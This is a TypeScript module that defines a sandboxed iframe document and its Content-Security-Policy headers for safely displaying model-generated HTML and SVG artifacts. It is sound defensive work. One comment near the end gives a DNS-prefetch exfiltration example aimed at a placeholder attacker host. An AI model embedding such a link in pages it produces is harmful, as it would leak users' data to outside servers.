/**
 * The page an HTML or SVG artifact runs in. A model's page may run its own scripts, but must not
 * reach the app, its token, the files API or any network. `srcdoc` cannot carry it: a srcdoc (or
 * blob:/data:) frame inherits the app's own CSP, whose `script-src 'self'` would stop the page's
 * inline scripts. So both hosts (`aivory serve` and the Electron `app://` handler) answer one
 * fixed path with this tiny document and its own CSP header, and the viewer frames it with
 * `<iframe sandbox="allow-scripts">` (no allow-same-origin: an opaque origin, no storage, no
 * cookies, no access to the parent). The CSP's own `sandbox` directive keeps the origin opaque
 * even if the address is opened outside the frame. The app's CSP gives `frame-src 'self'`, so the
 * frame cannot navigate itself to any other origin; the frame's CSP allows no fetch, image,
 * font, form or socket to anywhere (`default-src 'none'`, only inline script and style and
 * data:/blob: images). The document holds nothing secret, so it needs no framing guard.
 *
 * The viewer posts `{ html }` once the frame has loaded; the bootstrap script writes it into the
 * document (document.write keeps the document, so the CSP stays) and listens no further.
 */

/** The path both hosts serve the frame document at. */
export const ARTIFACT_FRAME_PATH = '/artifact-frame.html';

/** The frame's CSP directives but `script-src` (both variants). */
const FRAME_DIRECTIVES = [
  "default-src 'none'",
  "style-src 'unsafe-inline'",
  'img-src data: blob:',
  'font-src data:',
  'media-src data: blob:',
  "base-uri 'none'",
  "form-action 'none'",
  'sandbox allow-scripts',
];

/** The frame document's Content-Security-Policy header: the page's own scripts may run. */
export const ARTIFACT_FRAME_CSP = [
  FRAME_DIRECTIVES[0],
  "script-src 'unsafe-inline'",
  ...FRAME_DIRECTIVES.slice(1),
].join('; ');

/** The frame document's one script: takes the page from its parent, once, and writes it. */
const BOOTSTRAP_SCRIPT = `
(function () {
  var done = false;
  addEventListener('message', function (event) {
    if (done || event.source !== parent) return;
    var data = event.data;
    if (data === null || typeof data !== 'object' || typeof data.html !== 'string') return;
    done = true;
    document.open();
    document.write(data.html);
    document.close();
  });
})();
`;

/** The frame document: an empty page whose one script takes the artifact from its parent. */
export const ARTIFACT_FRAME_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>artifact</title></head><body><script>${BOOTSTRAP_SCRIPT}</script></body></html>
`;

/**
 * The SHA-256 (base64) of BOOTSTRAP_SCRIPT, which the scriptless variant's CSP allows alone (a
 * unit test holds it to the script). A page that carries the same script gains nothing by it.
 */
export const ARTIFACT_FRAME_BOOTSTRAP_SHA256 = '/bKGrIepzPROdzKmlnyaKKf+lCM2tRkxEjpG8G0x49c=';

/**
 * The query that asks for the scriptless frame: the bootstrap runs, the page's own scripts (inline,
 * handlers, javascript: URLs, and those of any srcdoc frame it makes, which inherits the policy)
 * do not. `aivory serve` shows HTML and SVG this way unless the user chooses to run the page's
 * scripts: a browser tab cannot deny a page WebRTC, which no CSP directive Chromium implements
 * governs (the desktop window can: `WEBRTC_IP_HANDLING_POLICY`), and a script that removes
 * `RTCPeerConnection` before the page's own is undone by a srcdoc child frame, a fresh realm.
 */
export const ARTIFACT_FRAME_NO_SCRIPTS = 'scripts=none';

/** The scriptless frame's CSP: only the bootstrap script runs. */
export const ARTIFACT_FRAME_NO_SCRIPTS_CSP = [
  FRAME_DIRECTIVES[0],
  `script-src 'sha256-${ARTIFACT_FRAME_BOOTSTRAP_SHA256}'`,
  ...FRAME_DIRECTIVES.slice(1),
].join('; ');

/** True when a frame request asks for the scriptless variant. */
export function artifactFrameWithoutScripts(url: string): boolean {
  try {
    return new URL(url, 'http://x').searchParams.get('scripts') === 'none';
  } catch {
    return false;
  }
}

/** The headers of the frame document (both hosts) for the request at `url`. */
export function artifactFrameHeaders(url = ''): Record<string, string> {
  return {
    'Content-Type': 'text/html; charset=utf-8',
    'Content-Security-Policy': artifactFrameWithoutScripts(url)
      ? ARTIFACT_FRAME_NO_SCRIPTS_CSP
      : ARTIFACT_FRAME_CSP,
    'X-Content-Type-Options': 'nosniff',
    'Cache-Control': 'no-store',
    'Referrer-Policy': 'no-referrer',
    // CSP does not govern DNS prefetching: a page's <link rel=dns-prefetch href=//secret.evil>
    // would otherwise carry data out in a host name.
    'X-DNS-Prefetch-Control': 'off',
  };
}

/** True when a request URL (a path with a query, or a whole URL) names the frame document. */
export function isArtifactFramePath(url: string): boolean {
  try {
    return new URL(url, 'http://x').pathname === ARTIFACT_FRAME_PATH;
  } catch {
    return false;
  }
}
